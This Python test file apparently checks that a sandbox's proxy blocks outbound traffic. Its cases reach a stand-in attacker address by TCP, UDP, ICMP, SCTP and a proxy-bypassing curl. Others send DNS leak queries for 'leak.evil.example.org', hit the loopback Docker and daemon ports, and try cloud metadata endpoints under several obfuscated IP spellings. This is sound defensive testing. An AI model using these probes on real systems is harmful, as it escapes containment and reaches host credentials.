"""Around the proxy: packets of every kind, straight to where they should go."""

import os
import ssl
import struct
import subprocess
import urllib.request

from attack import *

EVIL, EVIL6 = "198.51.100.66", "2001:db8:1::66"


def wire(proto, address, port):
    return f"{proto} [{address}]:{port}" if ":" in address else f"{proto} {address}:{port}"


def sent(name, host, port, payload):
    """A datagram that nobody needs to answer. That a system takes it says
    nothing: gVisor's takes those that have nowhere to go."""

    @case(name, control=False, leaves=wire("udp", host, port))
    def attack():
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            s.sendto(payload, (host, port))


def query(name):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def answers(reply):
    """How many records answer a query."""
    return struct.unpack(">H", reply[6:8])[0]


for port in (22, 80, 443, 8080):
    if port != 443:
        case(f"TCP to a public address, port {port}")(lambda port=port: tcp(EVIL, port))
        case(f"TCP to a public IPv6 address, port {port}")(lambda port=port: tcp(EVIL6, port))
case("TCP to an address that the policy allows")(lambda: tcp("198.51.100.10", 80))
case("TCP to the default gateway")(lambda: tcp("198.18.0.1", 80))
case("TCP to the host's address")(lambda: tcp("198.18.0.2", 80))
case("TCP to a public address of the host")(lambda: tcp("203.0.113.77", 80))
case("TCP to a private address")(lambda: tcp("10.1.2.3", 80))
case("TCP to the host's loopback")(lambda: tcp("127.0.0.1", 2375))
case("TCP to the host's loopback, IPv6")(lambda: tcp("::1", 2375))
case("TCP to 0.0.0.0")(lambda: tcp("0.0.0.0", 2375))
case("TCP to another address of loopback")(lambda: tcp("127.6.6.6", 2375))
case("the daemon's API on loopback")(lambda: tcp(*api(), request("/v1/sandboxes", "127.0.0.1")))
case("the gRPC port on loopback")(lambda: tcp(*api("GRPC"), request("/v1/sandboxes", "127.0.0.1")))
case("a port of another sandbox", control=False)(lambda: tcp("127.0.0.1", 8099))

for address in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "192.0.0.192", "fd20:ce::254"):
    case(f"metadata at {address}")(lambda address=address: tcp(address, 80))
for spelling in ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "169.16689662", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"):
    case(f"metadata at {spelling}")(lambda spelling=spelling: tcp(spelling, 80))

for server in ("8.8.8.8", "1.1.1.1", "9.9.9.9", "2001:4860:4860::8888"):
    case(f"TCP to the name server {server}")(lambda server=server: tcp(server, 53))
    case(f"DNS over TLS at {server}")(lambda server=server: tls(server, 853))
    case(f"DNS over HTTPS at {server}")(lambda server=server: tls(server, 443))
sent("a UDP query to another name server", "8.8.8.8", 53, query("leak.evil.example.org"))
sent("a UDP query to another name server, IPv6", "2001:4860:4860::8888", 53, query("leak.evil.example.org"))
case("a UDP query to the host's resolver", leaves="dns leak.evil.example.org.")(lambda: b"CANARY" if answers(udp("127.0.0.1", 53, query("leak.evil.example.org"))) else b"")
case("the C library's resolver")(lambda: b"CANARY" if socket.getaddrinfo("leak.evil.example.org", 80) else b"")
sent("multicast DNS", "224.0.0.251", 5353, query("printer.local"))

for what, address in (("UDP", EVIL), ("UDP, IPv6", EVIL6), ("UDP to the metadata service", "169.254.169.254")):
    case(what, leaves=wire("udp", address, 123))(lambda address=address: udp(address, 123, timeout=SHORT))
case("a QUIC Initial", leaves=wire("udp", EVIL, 443))(lambda: udp(EVIL, 443, b"\xc0\x00\x00\x00\x01\x08" + bytes(1194), SHORT))
sent("UDP broadcast", "255.255.255.255", 9999, b"hello")
case("UDP to a port of the host")(lambda: udp("127.0.0.1", 123))


@case("UDP-Lite", control=False, leaves=f"136 {EVIL}:0")
def udplite():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as s:
        s.sendto(b"hello", (EVIL, 9999))


@case("SCTP", control=False)
def sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:
        s.settimeout(TIMEOUT)
        s.connect((EVIL, 80))
        return b"CANARY"


@case("TCP Fast Open")
def fast_open():
    with socket.socket() as s:
        for option_ in (20, 21):  # its first call is one that blocks
            s.setsockopt(socket.SOL_SOCKET, option_, struct.pack("ll", TIMEOUT, 0))
        s.sendto(request(), 0x20000000, (EVIL, 80))
        return read_all(s)


@case("ICMP echo, raw socket")
def raw_icmp():
    return echo(socket.SOCK_RAW, socket.AF_INET, socket.IPPROTO_ICMP, EVIL, 8, 0)


@case("ICMP echo, datagram socket", control=False)  # a setting of the host's decides who may
def datagram_icmp():
    return echo(socket.SOCK_DGRAM, socket.AF_INET, socket.IPPROTO_ICMP, EVIL, 8, 0)


@case("ICMPv6 echo, raw socket")
def raw_icmp6():
    return echo(socket.SOCK_RAW, socket.AF_INET6, socket.IPPROTO_ICMPV6, EVIL6, 128, 129)


@case("proxy variables unset: curl")
def curl():
    return subprocess.run(["curl", "-sS", "-m", "20", "--noproxy", "*", f"http://{EVIL}/"], env={"PATH": os.environ["PATH"]}, capture_output=True).stdout


@case("proxy variables unset: Python")
def urllib_without_proxy():
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(f"http://{EVIL}/", timeout=TIMEOUT).read()


@case("proxy variables unset: a name")
def name_without_proxy():
    return tcp("evil.example.org", 80)


@case("a socket that is bound to a device")
def bound_to_device():
    answer = b""
    for _, device in socket.if_nameindex():
        if device == "lo":
            continue
        with socket.socket() as s:
            s.settimeout(TIMEOUT)
            s.setsockopt(socket.SOL_SOCKET, 25, device.encode())
            s.connect((EVIL, 80))
            s.sendall(request())
            answer += read_all(s)
    return answer


@case("a link-local address with a zone")
def zone():
    answer = b""
    for index, device in socket.if_nameindex():
        if device != "lo":
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                if s.sendto(b"hello", ("ff02::1", 9999, 0, index)):
                    answer = b"CANARY"
    return answer


def api(which="API"):
    host, _, port = option(which).rpartition(":")
    return host, int(port)


def tls(host, port):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with dial(host, port) as s, context.wrap_socket(s, server_hostname="dns.example.org") as secured:
        secured.sendall(request("/dns-query"))
        return read_all(secured)


def echo(kind, family, proto, address, ask, answer):
    packet = struct.pack(">BBHHH", ask, 0, 0, 7, 1)
    if family == socket.AF_INET:
        packet = struct.pack(">BBHHH", ask, 0, 0xFFFF - sum(struct.unpack(">4H", packet)), 7, 1)
    with socket.socket(family, kind, proto) as s:
        s.settimeout(TIMEOUT)
        s.sendto(packet, (address, 0))
        while True:
            got = s.recvfrom(2048)[0]
            body = got[(got[0] & 15) * 4 :] if kind == socket.SOCK_RAW and family == socket.AF_INET else got
            if body[0] == answer:
                return b"CANARY"


main()
